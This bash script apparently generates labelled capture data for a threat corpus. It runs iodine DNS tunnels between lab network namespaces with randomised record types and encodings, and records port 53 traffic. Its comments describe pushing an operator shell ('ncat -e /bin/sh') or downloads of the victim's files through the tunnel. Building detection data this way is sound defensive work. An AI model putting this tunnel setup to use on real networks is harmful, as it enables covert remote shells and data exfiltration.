#!/usr/bin/env bash
# corpus/threats/iodine.sh OUTDIR: class Iodine, IP over DNS with iodine/iodined.
#
# Each session is one tunnel run: iodined in the server namespace (its own tunnel
# subnet, top domain and password), iodine in the client namespace talking to it
# directly as its nameserver (one UDP socket, so one UDP flow to port 53 per run), and
# through the tunnel either an operator in a shell (ncat -e /bin/sh on the server's
# tunnel address; 3-10 commands at an operator's pace) or curl downloading 1-4 of the
# victim's files from a python http.server, with pauses; then the client stops. Before
# that, the client tries the service until it answers through the tunnel.
# Options vary per session: DNS record type (-T NULL, PRIVATE, TXT, SRV, MX, CNAME, A or
# autodetect), downstream encoding (-O), lazy mode (-L), request interval (-I), fragment
# size (-m) and upstream hostname length (-M), raw UDP mode attempt or not (-r).
# Capture filter: udp port 53 (the traffic inside the tunnel runs on tun devices, not on
# the link).
set -u
here=$(dirname "$0")
. "$here/../lib/netns.sh"
. "$here/malicious.bash"


# waits until a tunnel device (srv or cli namespace) has its address
wait_tunnel() {
    local ns=$1 dev=$2 end=$((SECONDS + 60))
    while [ "$SECONDS" -lt "$end" ]; do
        ns_run "$ns" ip -4 addr show dev "$dev" 2>/dev/null | grep -q 'inet ' && return 0
        sleep 0.2
    done
    netns_say "session: iodine tunnel $dev ($ns) not up after 60 s"
    return 1
}

# waits until the service at IP:PORT answers through the tunnel: the tunnel device has
# its address before iodine has finished probing fragment sizes (up to ~20 s)
wait_through() {
    local ip=$1 port=$2 end=$((SECONDS + 90))
    while [ "$SECONDS" -lt "$end" ]; do
        in_cli timeout 3 bash -c "exec 3<>/dev/tcp/$ip/$port" 2>/dev/null && return 0
        sleep 0.5
    done
    netns_say "session: no answer from $ip:$port through the iodine tunnel after 90 s"
    return 1
}

session() {
    local i=$1 dom pw type opts=() pids=() use tun_srv port dev
    dev=fcio$i tun_srv=10.99.$i.1 port=$(rand 2000 9999)
    dom=$(pick t d x ns dl)$(rand 1 99).$(pick example.com example.org corp.local cdn-cache.net)
    pw=$(head -c 9 /dev/urandom | base64 | tr -d '/+')
    type=$(pick auto auto NULL PRIVATE TXT SRV MX CNAME A)
    [ "$type" = auto ] || opts+=(-T "$type")
    case $type in
    TXT) opts+=(-O "$(pick Base32 Base64 Base64u Base128 Raw)") ;;
    SRV|MX|CNAME|A) [ $(rand 0 1) -eq 0 ] && opts+=(-O "$(pick Base32 Base64 Base64u Base128)") ;;
    esac
    [ $(rand 0 3) -eq 0 ] && opts+=(-L 0)
    [ $(rand 0 2) -eq 0 ] && opts+=(-I "$(rand 1 4)")
    [ $(rand 0 2) -eq 0 ] && opts+=(-m "$(pick 200 400 600 900 1100)")
    [ $(rand 0 3) -eq 0 ] && opts+=(-M "$(rand 100 255)")
    [ $(rand 0 1) -eq 0 ] && opts+=(-r)
    ns_start srv iodined -f -l "$SRV_IP" -p 53 -d "$dev" -P "$pw" "$tun_srv/27" "$dom"
    pids+=($!)
    wait_tunnel srv "$dev" || { stop_all "${pids[@]}"; return 1; }
    use=$(pick shell shell web)
    if [ "$use" = shell ]; then ns_start srv tunnel_target_shell "$tun_srv" "$port"; else ns_start srv tunnel_target_web "$tun_srv" "$port"; fi
    pids+=($!)
    wait_port srv "$tun_srv" "$port" || { stop_all "${pids[@]}"; return 1; }
    ns_start cli iodine -f -d "$dev" -P "$pw" "${opts[@]}" "$SRV_IP" "$dom"
    pids+=($!)
    wait_tunnel cli "$dev" && wait_through "$tun_srv" "$port" || { stop_all "${pids[@]}"; return 1; }
    if [ "$use" = shell ]; then
        mal_commands "$(rand 3 8)" | operator_lines | ns_run cli tunnel_use_shell "$tun_srv" "$port" > /dev/null 2>&1
    else
        tunnel_downloads "$tun_srv:$port" 40 4
    fi
    nap_ms 500 3000
    stop_all "${pids[@]}"
}

mal_init Iodine "${1:-}" 38
capture_start "$MAL_OUT/iodine.pcap" "udp port 53"
run_sessions 14 session
capture_stop
mal_done
